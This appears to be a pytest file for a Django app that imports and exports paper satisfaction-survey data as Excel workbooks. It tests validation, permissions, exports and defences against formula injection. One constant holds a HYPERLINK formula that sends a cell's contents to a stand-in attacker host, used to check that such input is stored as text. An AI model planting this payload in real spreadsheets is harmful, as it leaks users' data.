import io

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import Workbook, load_workbook

from kinerja.core.models import AuditEvent
from kinerja.satisfaction import excel, formulas, services
from kinerja.satisfaction.models import Answer, Response
from kinerja.satisfaction.tests.test_surveys import CODES, data


def _sheet(rows, header=None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Kuesioner"
    sheet.append(header or excel.PROFILE_COLUMNS + CODES + ["saran"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _row(service="Rawat jalan", gender="P", age=30, education="s1", occupation="Wirausaha", scores=None, saran=""):
    scores = scores if scores is not None else [3] * 9
    return [service, gender, age, education, occupation, *scores, saran]


def test_the_template_lists_the_columns_and_allowed_values(survey):
    workbook = load_workbook(io.BytesIO(excel.paper_template(survey)))
    assert [c.value for c in workbook["Kuesioner"][1]] == excel.PROFILE_COLUMNS + CODES + ["saran"]
    help_text = " ".join(str(c.value) for row in workbook["Petunjuk"].iter_rows() for c in row if c.value)
    assert "Rawat inap" in help_text and "Sangat mudah" in help_text


def test_a_clean_sheet_is_saved_whole_with_blank_answers_allowed(world, survey):
    rows = [
        _row(),
        _row(service="RAWAT INAP", gender="Perempuan", education="SMA", scores=[4, 4, None, 4, 2, 4, 4, 4, 1]),
        _row(gender="L", age="52", occupation="pns", scores=[1] * 9, saran="Antrean terlalu lama"),
    ]
    result = excel.import_paper(
        user=world.users["dinkes_operator"], survey=survey, data=_sheet(rows), filename="a.xlsx"
    )
    assert result.ok and result.saved == 3
    stored = list(Response.objects.filter(survey=survey).order_by("pk"))
    assert [r.channel for r in stored] == ["paper"] * 3 and stored[1].service.name == "Rawat inap"
    assert stored[1].gender == "P" and stored[1].education == "sma" and stored[2].suggestion_status == "private"
    assert Answer.objects.filter(survey=survey).count() == 26
    event = AuditEvent.objects.filter(action="import_paper").get()
    assert event.after == {"responses": 3, "file": "a.xlsx"}
    expected = formulas.ikm(
        [
            dict(zip(CODES, [3] * 9, strict=True)),
            dict(zip(CODES, [4, 4, None, 4, 2, 4, 4, 4, 1], strict=True)),
            dict(zip(CODES, [1] * 9, strict=True)),
        ]
    )
    workbook = load_workbook(io.BytesIO(excel.raw_data_workbook(survey)), read_only=True)
    data_rows = list(workbook["Data"].iter_rows(values_only=True))
    assert len(data_rows) == 4 and data_rows[2][8:17] == (4, 4, None, 4, 2, 4, 4, 4, 1)
    assert data_rows[3][-2:] == ("Antrean terlalu lama", "private")
    summary = {row[0]: row for row in workbook["Hasil"].iter_rows(values_only=True) if row and row[0]}
    assert float(summary["IKM"][1]) == float(expected.index) and summary["IKM"][2] == expected.grade


def test_one_bad_row_saves_nothing_and_every_error_is_named(world, survey):
    rows = [
        _row(),
        _row(service="Gigi", scores=[3, 3, 3, 3, 5, 3, 3, 3, 3]),
        _row(gender="X", age=9),
        _row(scores=[None] * 9),
        _row(),
    ]
    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=_sheet(rows))
    assert not result.ok and result.saved == 0
    by_row = dict(result.errors)
    assert set(by_row) == {3, 4, 5}
    assert "layanan" in by_row[3] and "U5" in by_row[3]
    assert "jenis_kelamin" in by_row[4] and "umur" in by_row[4]
    assert Response.objects.count() == 0 and not AuditEvent.objects.filter(action="import_paper").exists()


@pytest.mark.parametrize(
    "payload",
    [b"not an excel file", _sheet([_row()], header=["layanan", "umur"]), _sheet([])],
)
def test_unreadable_or_empty_files_are_refused(world, survey, payload):
    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=payload)
    assert not result.ok and result.errors[0][0] == 0 and Response.objects.count() == 0


def test_only_officers_of_the_unit_import(world, survey):
    with pytest.raises(PermissionDenied):
        excel.import_paper(user=world.users["disdik_operator"], survey=survey, data=_sheet([_row()]))
    with pytest.raises(PermissionDenied):
        excel.import_paper(user=world.users["planner"], survey=survey, data=_sheet([_row()]))


def test_raw_data_joins_answers_to_their_responses(world, survey):
    for scores in ([1] * 9, [2] * 9, [4] * 9):
        services.response_submit(
            survey=survey,
            data=data(survey, dict(zip(CODES, scores, strict=True))),
            channel="paper",
            user=world.users["dinkes_operator"],
        )
    workbook = load_workbook(io.BytesIO(excel.raw_data_workbook(survey)), read_only=True)
    rows = list(workbook["Data"].iter_rows(values_only=True))[1:]
    assert [r[8:17] for r in rows] == [(1,) * 9, (2,) * 9, (4,) * 9]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_an_anonymous_suggestion_that_looks_like_a_formula_is_written_as_text_in_the_raw_data(world, survey):
    services.response_submit(
        survey=survey,
        data={**data(survey), "suggestion": HOSTILE},
        channel="paper",
        user=world.users["dinkes_operator"],
    )
    sheet = load_workbook(io.BytesIO(excel.raw_data_workbook(survey)))["Data"]
    cell = sheet.cell(row=2, column=sheet.max_column - 1)
    assert cell.value == HOSTILE and cell.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_formula_in_the_paper_sheet_is_refused_naming_its_cell_and_text_with_equals_is_kept(world, survey):
    from kinerja.core.spreadsheets import append_row

    workbook = load_workbook(io.BytesIO(_sheet([_row()])))
    workbook["Kuesioner"]["F2"] = "=2+2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=buffer.getvalue())
    assert result.errors == [(2, "Sheet Kuesioner, cell F2 holds a formula; type the value itself.")]
    assert Response.objects.count() == 0
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Kuesioner"
    append_row(sheet, excel.PROFILE_COLUMNS + CODES + ["saran"])
    append_row(sheet, _row(saran="=tolong perbaiki antrean"))
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=buffer.getvalue())
    assert result.ok and Response.objects.get().suggestion == "=tolong perbaiki antrean"


def test_paper_import_errors_are_bounded_and_rows_capped(world, survey, settings, monkeypatch):
    settings.IMPORT_MAX_ERRORS = 3
    result = excel.import_paper(
        user=world.users["dinkes_operator"], survey=survey, data=_sheet([_row(gender="X")] * 20)
    )
    assert len(result.errors) == 4 and result.errors[-1] == (0, "… and 17 more errors.")
    monkeypatch.setattr(excel, "PAPER_MAX_ROWS", 10)
    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=_sheet([_row()] * 20))
    assert result.errors == [(0, "Sheet Kuesioner has more than 10 rows to import; nothing was read beyond that.")]
    assert Response.objects.count() == 0
